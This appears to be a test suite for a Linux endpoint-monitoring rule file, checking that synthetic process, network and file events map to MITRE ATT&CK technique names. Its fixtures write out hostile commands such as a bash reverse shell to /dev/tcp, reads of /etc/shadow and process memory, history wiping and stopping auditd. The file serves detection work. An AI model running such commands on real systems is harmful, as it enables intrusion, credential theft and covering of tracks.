import { deepStrictEqual, ok, strictEqual } from "node:assert/strict";
import { type Config, formatDiagnostic, loadConfig } from "../src/config/mod.ts";
import type { Event, FieldValue } from "../src/events/event.ts";
import { compileRules, type RuleOptions } from "../src/rules/mod.ts";
import { eventById, EVENTS } from "../src/schema/mod.ts";

/** Shipped configurations must be clean: warnings, too, are told to whoever starts the sensor. */
function load(name: string): Config {
  const file = new URL(name, import.meta.url);
  const { config, diagnostics } = loadConfig(Deno.readFileSync(file), `rules/${name}`);
  deepStrictEqual(diagnostics.map(formatDiagnostic), []);
  return config!;
}

const LINUX = load("linux.xml");
const rules = compileRules(LINUX);

/** Ways in which engines that read this file may differ; the answers must not. */
const ENGINES: readonly RuleOptions[] = [
  {},
  { compatibleRuleNames: true },
  { imageSeparator: "\\" },
  { compatibleRuleNames: true, imageSeparator: "\\" },
];

const DEFAULTS: Readonly<Record<string, FieldValue>> = {
  UtcTime: "2024-11-22 15:00:00.123",
  ProcessGuid: "{2424faa4-9c70-6740-e1b4-2270fe550000}",
  ProcessId: 4711,
  User: "root",
  CurrentDirectory: "/",
  ParentImage: "/usr/lib/systemd/systemd",
  ParentCommandLine: "/sbin/init",
};

function event(id: number, values: Readonly<Record<string, FieldValue>>): Event {
  const definition = eventById(id)!;
  for (const name of Object.keys(values)) ok(definition.fieldIndex.has(name), `${id}: ${name}`);
  const known = { ...DEFAULTS, ...values };
  return {
    definition,
    values: definition.fields.map(({ name }) => known[name] ?? "-"),
    time: 0,
    recordId: 0,
    image: undefined,
  };
}

/** Technique and name, `-` for a logged event without a name, undefined for a dropped one. */
type Expected = readonly [technique: string, name: string] | "-" | undefined;

function ruleName(expected: Expected): string | undefined {
  if (expected === undefined || expected === "-") return expected;
  return `technique_id=${expected[0]},technique_name=${expected[1]}`;
}

function test(name: string, given: Event, expected: Expected): void {
  Deno.test(name, () => {
    for (const options of ENGINES) {
      const engine = compileRules(LINUX, options);
      strictEqual(engine.evaluate(given), ruleName(expected), JSON.stringify(options));
    }
  });
}

function start(image: string, commandLine: string, parent = "/usr/bin/bash"): Event {
  return event(1, { Image: image, CommandLine: commandLine, ParentImage: parent });
}

function end(image: string): Event {
  return event(5, { Image: image });
}

function created(path: string, image = "/usr/bin/bash"): Event {
  return event(11, { TargetFilename: path, Image: image });
}

function deleted(path: string, image = "/usr/bin/rm"): Event {
  return event(23, { TargetFilename: path, Image: image });
}

function connection(
  image: string,
  direction: "out" | "in",
  [sourceIp, sourcePort]: [string, number],
  [destinationIp, destinationPort]: [string, number],
  protocol = "tcp",
): Event {
  const isIpv6 = sourceIp.includes(":");
  return event(3, {
    Image: image,
    Protocol: protocol,
    Initiated: direction === "out",
    SourceIsIpv6: isIpv6,
    SourceIp: sourceIp,
    SourcePort: sourcePort,
    DestinationIsIpv6: isIpv6,
    DestinationIp: destinationIp,
    DestinationPort: destinationPort,
  });
}

const SHELL: Expected = ["T1059.004", "Unix Shell"];
const PYTHON: Expected = ["T1059.006", "Python"];
const INTERPRETER: Expected = ["T1059", "Command and Scripting Interpreter"];
const TRANSFER: Expected = ["T1105", "Ingress Tool Transfer"];
const SERVICE: Expected = ["T1543.002", "Systemd Service"];
const DELETION: Expected = ["T1070.004", "File Deletion"];

// 1: every start is logged, telling ones under a name

test("a dull program is logged without a name", start("/usr/bin/true", "true"), "-");
test("an image that is not known is logged", start("-", "-"), "-");
test("bash", start("/usr/bin/bash", "bash"), SHELL);
test("dash under the name sh", start("/usr/bin/dash", "sh -c ls", "/usr/sbin/cron"), SHELL);
test("any Python", start("/usr/bin/python3.11", "python3 x.py"), PYTHON);
test("Perl", start("/usr/bin/perl", "perl -e 1"), INTERPRETER);
test("whoami", start("/usr/bin/whoami", "whoami"), [
  "T1033",
  "System Owner/User Discovery",
]);
test("idle is not id", start("/usr/bin/idle-tool", "idle-tool"), "-");
test("curl", start("/usr/bin/curl", "curl -O https://example.org/x"), TRANSFER);
test("curl copied elsewhere", start("/opt/x/curl", "curl -V"), TRANSFER);
test("sudo", start("/usr/bin/sudo", "sudo -i"), ["T1548.003", "Sudo and Sudo Caching"]);
test("useradd", start("/usr/sbin/useradd", "useradd eve"), ["T1136.001", "Local Account"]);
test("crontab", start("/usr/bin/crontab", "crontab -e"), ["T1053.003", "Cron"]);
test("ssh", start("/usr/bin/ssh", "ssh -l root host"), ["T1021.004", "SSH"]);
test("an ssh tunnel", start("/usr/bin/ssh", "ssh -N -L 8080:10.0.0.1:80 host"), [
  "T1572",
  "Protocol Tunneling",
]);
test("a service is started", start("/usr/bin/systemctl", "systemctl enable --now x"), SERVICE);
test("a service is stopped", start("/usr/bin/systemctl", "systemctl stop nginx"), [
  "T1489",
  "Service Stop",
]);
test("the audit daemon is stopped", start("/usr/bin/systemctl", "systemctl stop auditd"), [
  "T1562.001",
  "Disable or Modify Tools",
]);
test("systemctl status", start("/usr/bin/systemctl", "systemctl status nginx"), "-");
test("a module is loaded", start("/usr/bin/kmod", "modprobe rootkit"), [
  "T1547.006",
  "Kernel Modules and Extensions",
]);
test("lsmod", start("/usr/bin/kmod", "lsmod"), "-");
test("the shadow file", start("/usr/bin/cat", "cat /etc/shadow"), [
  "T1003.008",
  "/etc/passwd and /etc/shadow",
]);
test("/proc/meminfo is no process's memory", start("/usr/bin/cat", "cat /proc/meminfo"), "-");
test("a process's memory", start("/usr/bin/dd", "dd if=/proc/1/mem of=x"), [
  "T1003.007",
  "Proc Filesystem",
]);
test("history is removed", start("/usr/bin/rm", "rm -f /root/.bash_history"), [
  "T1070.003",
  "Clear Command History",
]);
test("a reverse shell", start("/usr/bin/bash", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"), SHELL);
test(
  "sha256sum behind a pipe is no shell",
  start("/usr/bin/mycat", "mycat x | sha256sum"),
  "-",
);
test("a web server starts a shell", start("/usr/bin/dash", "sh -c id", "/usr/sbin/apache2"), [
  "T1505.003",
  "Web Shell",
]);
test("any PHP-FPM starts a shell", start("/usr/bin/dash", "sh -c id", "/usr/sbin/php-fpm8.2"), [
  "T1505.003",
  "Web Shell",
]);
test(
  "a database starts a shell",
  start("/usr/bin/bash", "bash -c id", "/usr/lib/postgresql/15/bin/postgres"),
  ["T1190", "Exploit Public-Facing Application"],
);
test("a web server starts its worker", start("/usr/sbin/nginx", "nginx", "/usr/sbin/nginx"), "-");
test("a program from memory", start("/memfd:x (deleted)", "[kworker/0:1]"), [
  "T1620",
  "Reflective Code Loading",
]);
test("a deleted program", start("/opt/x (deleted)", "x"), DELETION);
test("a hidden program in /tmp", start("/tmp/.x/run", "run"), [
  "T1564.001",
  "Hidden Files and Directories",
]);
test("a program in /dev/shm", start("/dev/shm/x", "x"), INTERPRETER);
test("docker exec", start("/usr/bin/docker", "docker exec -it web sh"), [
  "T1609",
  "Container Administration Command",
]);
test(
  "systemd's helper before a unit's program",
  start("/usr/lib/systemd/systemd-executor", "…", "/usr/lib/systemd/systemd"),
  undefined,
);
test(
  "the same helper from a shell",
  start("/usr/lib/systemd/systemd-executor", "…", "/usr/bin/bash"),
  "-",
);
test(
  "a packaged generator",
  start(
    "/usr/lib/systemd/system-generators/systemd-fstab-generator",
    "…",
    "/usr/lib/systemd/systemd",
  ),
  undefined,
);
test(
  "a generator that no package brought",
  start("/etc/systemd/system-generators/x", "x", "/usr/lib/systemd/systemd"),
  "-",
);

// 5: every end but those that nobody asks for

test("an end", end("/usr/bin/true"), "-");
test("an end in /tmp", end("/tmp/x"), "-");
test("a udev worker's end", end("/usr/bin/udevadm"), undefined);

// 3: what leaves or enters the host

test(
  "an outgoing connection",
  connection("/usr/sbin/rsyslogd", "out", ["10.0.0.5", 50000], ["192.0.2.1", 514]),
  "-",
);
test(
  "an accepted connection",
  connection("/usr/bin/myd", "in", ["192.0.2.1", 50000], ["10.0.0.5", 9999]),
  "-",
);
test(
  "an accepted ssh connection",
  connection("/usr/sbin/sshd", "in", ["192.0.2.1", 50000], ["10.0.0.5", 22]),
  ["T1021.004", "SSH"],
);
test(
  "a shell on the network",
  connection("/usr/bin/bash", "out", ["10.0.0.5", 50000], ["192.0.2.1", 443]),
  SHELL,
);
test(
  "within the host",
  connection("/usr/bin/psql", "out", ["127.0.0.1", 50000], ["127.0.0.1", 5432]),
  undefined,
);
test(
  "within the host, IPv6",
  connection("/usr/bin/psql", "out", ["0:0:0:0:0:0:0:1", 5000], ["0:0:0:0:0:0:0:1", 5432]),
  undefined,
);
test(
  "within the host, by a program in /tmp",
  connection("/tmp/x", "out", ["127.0.0.1", 50000], ["127.0.0.1", 5432]),
  ["T1071", "Application Layer Protocol"],
);
test(
  "the metadata service",
  connection("/usr/bin/curl", "out", ["10.0.0.5", 50000], ["169.254.169.254", 80]),
  ["T1552.005", "Cloud Instance Metadata API"],
);
test(
  "a resolver's question",
  connection(
    "/usr/lib/systemd/systemd-resolved",
    "out",
    ["10.0.0.5", 50000],
    ["192.0.2.53", 53],
    "udp",
  ),
  undefined,
);
test(
  "a program that asks a name server by itself",
  connection("/usr/bin/myd", "out", ["10.0.0.5", 50000], ["192.0.2.53", 53], "udp"),
  ["T1071.004", "DNS"],
);
test(
  "the name server's answer",
  connection("/usr/bin/myd", "in", ["192.0.2.53", 53], ["10.0.0.5", 50000], "udp"),
  undefined,
);
test(
  "an answer to a program in /dev/shm",
  connection("/dev/shm/x", "in", ["192.0.2.53", 53], ["10.0.0.5", 50000], "udp"),
  ["T1071", "Application Layer Protocol"],
);
test(
  "a request to a web front end",
  connection("/usr/sbin/nginx", "in", ["192.0.2.1", 50000], ["10.0.0.5", 443]),
  undefined,
);
test(
  "a web front end that connects",
  connection("/usr/sbin/nginx", "out", ["10.0.0.5", 50000], ["10.0.0.6", 8080]),
  "-",
);

// 11: files that let somebody stay, rise or hide

test("a cron job", created("/etc/cron.d/x"), ["T1053.003", "Cron"]);
test("a user's crontab", created("/var/spool/cron/crontabs/eve"), ["T1053.003", "Cron"]);
test("an at job", created("/var/spool/cron/atjobs/a0001"), ["T1053.002", "At"]);
test("a unit", created("/etc/systemd/system/x.service"), SERVICE);
test("a user's unit", created("/home/eve/.config/systemd/user/x.service"), SERVICE);
test("a timer", created("/etc/systemd/system/x.timer"), ["T1053.006", "Systemd Timers"]);
test(
  "systemd's note that a timer ran",
  created("/var/lib/systemd/timers/stamp-fstrim.timer", "/usr/lib/systemd/systemd"),
  undefined,
);
test("ld.so.preload", created("/etc/ld.so.preload"), ["T1574.006", "Dynamic Linker Hijacking"]);
test("the loader's cache", created("/etc/ld.so.cache~", "/usr/sbin/ldconfig"), undefined);
test("authorized_keys", created("/root/.ssh/authorized_keys"), [
  "T1098.004",
  "SSH Authorized Keys",
]);
test("known_hosts", created("/root/.ssh/known_hosts", "/usr/bin/ssh"), undefined);
test("sudoers", created("/etc/sudoers.d/eve"), ["T1548.003", "Sudo and Sudo Caching"]);
test("a PAM module", created("/usr/lib/x86_64-linux-gnu/security/pam_x.so"), [
  "T1556.003",
  "Pluggable Authentication Modules",
]);
test("the account file", created("/etc/passwd", "/usr/sbin/useradd"), [
  "T1136.001",
  "Local Account",
]);
test("its lock", created("/etc/passwd.lock", "/usr/sbin/useradd"), undefined);
test("a login script", created("/home/eve/.bashrc"), [
  "T1546.004",
  "Unix Shell Configuration Modification",
]);
test("a web shell", created("/var/www/html/up/x.php", "/usr/sbin/apache2"), [
  "T1505.003",
  "Web Shell",
]);
test("an upload", created("/var/www/html/up/x.jpg", "/usr/sbin/apache2"), undefined);
test("a module", created("/opt/x/evil.ko"), ["T1547.006", "Kernel Modules and Extensions"]);
test("a module from a package", created("/usr/lib/modules/6.1/k/x.ko", "/usr/bin/dpkg"), undefined);
test("a system program by hand", created("/usr/local/bin/x"), [
  "T1554",
  "Compromise Host Software Binary",
]);
test("a system program from a package", created("/usr/bin/x", "/usr/bin/dpkg"), undefined);
test("a script in /tmp", created("/tmp/x.sh"), TRANSFER);
test("apt's file in /tmp", created("/tmp/apt.conf.AbCdEf", "/usr/bin/apt-get"), undefined);
test("a file that curl brings", created("/home/eve/x", "/usr/bin/curl"), TRANSFER);
test("shared memory of a database", created("/dev/shm/PostgreSQL.1234"), undefined);
test("a file in /dev/shm", created("/dev/shm/x"), TRANSFER);

const IDLE_WRITES = [
  ["/var/log/journal/0123/system@01.journal", "/usr/lib/systemd/systemd-journald"],
  ["/run/systemd/journal/streams/.#9:1234", "/usr/lib/systemd/systemd-journald"],
  ["/var/log/syslog", "/usr/sbin/rsyslogd"],
  ["/run/udev/data/+module:x", "/usr/bin/udevadm"],
  ["/run/systemd/units/.#invocation:x.service", "/usr/lib/systemd/systemd"],
  ["/var/lib/systemd/timesync/clock", "/usr/lib/systemd/systemd-timesyncd"],
  ["/var/lib/logrotate/status.tmp", "/usr/sbin/logrotate"],
  ["/var/log/syslog.1", "/usr/sbin/logrotate"],
  ["/var/cache/man/index.db", "/usr/bin/mandb"],
  ["/var/lib/apt/lists/partial/x", "/usr/lib/apt/methods/http"],
  ["/run/sudo/ts/eve", "/usr/bin/sudo"],
  ["/var/spool/anacron/cron.daily", "/usr/sbin/anacron"],
];

Deno.test("what an idle host writes is dropped", () => {
  for (const [path, image] of IDLE_WRITES) {
    strictEqual(rules.evaluate(created(path, image)), undefined, path);
  }
});

// 23: evidence that goes

test("a log", deleted("/var/log/auth.log"), [
  "T1070.002",
  "Clear Linux or Mac System Logs",
]);
test("a rotated log", deleted("/var/log/syslog.7.gz", "/usr/sbin/logrotate"), undefined);
test(
  "an old journal",
  deleted("/var/log/journal/0123/system@01.journal", "/usr/lib/systemd/systemd-journald"),
  undefined,
);
test("history", deleted("/home/eve/.bash_history"), ["T1070.003", "Clear Command History"]);
test("a unit that is removed", deleted("/etc/systemd/system/x.service"), [
  "T1070.009",
  "Clear Persistence",
]);
test("a program that removes itself", deleted("/tmp/x", "/tmp/x"), DELETION);
test("shred", deleted("/home/eve/x", "/usr/bin/shred"), DELETION);
test("a temporary file", deleted("/tmp/tmp.AbCdEf"), undefined);

// Later captures

test("a module outside of the modules' place", event(6, { ImageLoaded: "/tmp/x.ko" }), [
  "T1547.006",
  "Kernel Modules and Extensions",
]);
test("a debugger", event(10, { SourceImage: "/usr/bin/gdb", TargetImage: "/usr/bin/true" }), [
  "T1055.008",
  "Ptrace System Calls",
]);
test("the disk, by udev", event(9, { Image: "/usr/bin/udevadm", Device: "/dev/sda" }), undefined);
test("the disk, by dd", event(9, { Image: "/usr/bin/dd", Device: "/dev/sda" }), "-");

// The file as a whole

Deno.test("RuleNames are ATT&CK names, each technique under one name", () => {
  const names = new Map<string, string>();
  const seen = LINUX.elements.flatMap((element) => element.items).flatMap((item) =>
    item.kind === "rule" ? item.conditions : [item]
  ).flatMap(({ name }) => name === undefined || name === "-" ? [] : [name]);
  ok(seen.length > 100);
  for (const text of seen) {
    const match = /^technique_id=(T\d{4}(?:\.\d{3})?),technique_name=(\S.*\S)$/.exec(text);
    ok(match !== null, text);
    const [, id, name] = match;
    strictEqual(names.get(id) ?? name, name, id);
    names.set(id, name);
  }
});

Deno.test("minimal.xml logs processes and their ends, and asks for nothing else", () => {
  const minimal = compileRules(load("minimal.xml"));
  const wanted = EVENTS.filter(({ id, tag }) => tag !== null && minimal.wants(id));
  deepStrictEqual(wanted.map(({ id }) => id), [1, 5]);
  strictEqual(minimal.evaluate(start("/usr/bin/true", "true")), "-");
  strictEqual(minimal.evaluate(end("/usr/bin/true")), "-");
  strictEqual(minimal.evaluate(created("/etc/ld.so.preload")), undefined);
});

Deno.test("verbose.xml logs every event of schema 4.90 on Linux, deletions once", () => {
  const verbose = compileRules(load("verbose.xml"));
  const unwanted = EVENTS.filter(({ id }) => !verbose.wants(id));
  deepStrictEqual(unwanted.map(({ id }) => id), [26, 27, 28, 29]);
  strictEqual(verbose.evaluate(created("/x")), "-");
});
